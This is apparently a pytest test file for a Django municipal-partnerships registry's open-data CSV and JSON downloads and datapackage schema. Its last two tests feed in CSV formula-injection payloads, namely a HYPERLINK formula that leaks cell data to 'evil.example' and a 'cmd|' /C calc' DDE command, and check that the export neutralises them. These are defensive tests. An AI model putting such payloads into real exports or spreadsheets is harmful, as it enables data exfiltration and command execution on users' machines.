"""Open data: the registry as CSV and JSON downloads, with the licence."""

import csv
import io
import json

import pytest
from django.urls import reverse

from tests.factories import PartnershipFactory

pytestmark = pytest.mark.django_db


def _url(dataset: str, fmt: str) -> str:
    return reverse("partnerships:open-data", kwargs={"dataset": dataset, "fmt": fmt})


@pytest.mark.parametrize("dataset", ["municipalities", "partnerships"])
def test_open_data_downloads_as_csv_and_json(client, django_assert_max_num_queries, dataset):
    partnership = PartnershipFactory()
    with django_assert_max_num_queries(2):
        response = client.get(_url(dataset, "csv"))
        body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert len(rows) == (2 if dataset == "municipalities" else 1)
    if dataset == "partnerships":
        assert rows[0]["municipality_a.slug"] == partnership.municipality_a.slug

    response = client.get(_url(dataset, "json"))
    data = json.loads(b"".join(response.streaming_content))
    assert "CC BY-SA 4.0" in data["licence"]
    assert len(data["items"]) == len(rows)


@pytest.mark.parametrize(("dataset", "fmt"), [("users", "csv"), ("municipalities", "xml")])
def test_open_data_unknown_dataset_or_format_is_404(client, dataset, fmt):
    assert client.get(_url(dataset, fmt)).status_code == 404


def test_open_data_json_types_numbers_as_numbers_and_blank_as_null(client):
    PartnershipFactory(municipality_a__area_km2="12.50", municipality_a__website="")
    response = client.get(_url("municipalities", "json"))
    items = json.loads(b"".join(response.streaming_content))["items"]
    community = next(item for item in items if item["country"] == "UA")
    assert community["area_km2"] == 12.5
    assert community["latitude"] == 49.5
    assert community["population"] == 25_000
    assert community["website"] is None
    assert community["open_to_partners"] is True
    town = next(item for item in items if item["country"] == "DE")
    assert town["region.code"] is None
    assert town["area_km2"] is None


# What a Table Schema reader accepts for each type (Frictionless defaults).
CASTS = {
    "string": str,
    "integer": int,
    "number": float,
    "boolean": lambda v: {"true": True, "True": True, "false": False, "False": False}[v],
    "date": lambda v: __import__("datetime").date.fromisoformat(v),
}


def test_datapackage_describes_every_csv_column_with_its_type_and_licence(client):
    import datetime

    PartnershipFactory(since=datetime.date(2025, 6, 1), municipality_a__population=None)
    package = client.get(reverse("partnerships:datapackage")).json()
    assert package["profile"] == "data-package"
    assert package["licenses"]
    assert {r["name"] for r in package["resources"]} == {"municipalities", "partnerships"}
    for resource in package["resources"]:
        assert resource["licenses"][0]["name"] == "CC-BY-SA-4.0"
        assert resource["path"].startswith("http")
        fields = resource["schema"]["fields"]
        missing = set(resource["schema"]["missingValues"])
        response = client.get(_url(resource["name"], "csv"))
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert rows[0] == [field["name"] for field in fields]
        for row in rows[1:]:
            for field, cell in zip(fields, row, strict=True):
                if cell in missing:
                    continue
                CASTS[field["type"]](cell)
                if "constraints" in field:
                    assert cell in field["constraints"]["enum"]


HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def test_open_data_csv_neutralises_formulas_but_keeps_negative_numbers(client):
    PartnershipFactory(
        municipality_a__name_en=HOSTILE,
        municipality_b__name_en="@SUM(1+1)",
        municipality_b__longitude=-3.7,
    )
    body = b"".join(client.get(_url("municipalities", "csv")).streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    names = {row["name_en"] for row in rows}
    assert names == {"'" + HOSTILE, "'@SUM(1+1)"}
    town = next(row for row in rows if row["name_en"] == "'@SUM(1+1)")
    assert town["longitude"] == "-3.70000"
    # The JSON is no spreadsheet: its names stay as they are.
    items = json.loads(b"".join(client.get(_url("municipalities", "json")).streaming_content))
    assert HOSTILE in {item["name_en"] for item in items["items"]}


def test_open_data_csv_of_partnerships_neutralises_its_text(client):
    PartnershipFactory(source_note="-2+3+cmd|' /C calc'!A0")
    body = b"".join(client.get(_url("partnerships", "csv")).streaming_content).decode()
    (row,) = csv.DictReader(io.StringIO(body))
    assert row["source_note"] == "'-2+3+cmd|' /C calc'!A0"
